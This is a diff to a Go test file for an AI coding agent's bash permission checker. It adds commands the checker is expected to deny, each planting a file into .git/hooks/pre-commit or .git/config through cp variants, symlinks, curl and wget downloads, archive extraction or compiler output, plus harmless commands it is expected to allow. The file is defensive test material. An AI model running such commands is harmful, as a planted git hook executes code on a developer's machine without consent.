@@ -318,6 +318,22 @@ sh -c 'cp evil .git/hooks/pre-commit'
 sudo cp evil .git/hooks/pre-commit
 find . -name evil -exec cp {} .git/hooks/pre-commit ';'
 env -C .git cp ../evil config
+ln .git/hooks/README y
+ln -s .git q && cp evil q/hooks/pre-commit
+cp -t.git/hooks evil
+cp --target-directory .git/hooks evil
+cp --target-dir=.git/hooks evil
+curl -o.git/hooks/pre-commit http://x
+wget -P.git/hooks http://x
+unzip a.zip -d.git/hooks
+tar -C.git/hooks -xf a.tar
+uniq evil .git/hooks/pre-commit
+split evil .git/hooks/pre
+openssl enc -in evil -out .git/hooks/pre-commit
+go build -o .git/hooks/pre-commit .
+gcc -o .git/hooks/pre-commit a.c
+gcc -o.git/hooks/pre-commit a.c
+prettier --write opencode.json
 `) {
 		command = strings.ReplaceAll(strings.TrimSpace(command), "HOME", home)
 		if command != "" {
@@ -334,6 +350,10 @@ grep x opencode.json
 echo x > AGENTS.md
 cp evil evil2
 sed s/a/b/ opencode.json
+git add opencode.json
+git diff opencode.json
+jq . opencode.json
+go build -o a.out .
 `) {
 		if s := b.call("bash", in{"command": strings.TrimSpace(command)}); s.Denied != nil {
 			t.Errorf("%s is denied: %+v", command, s.Denied)
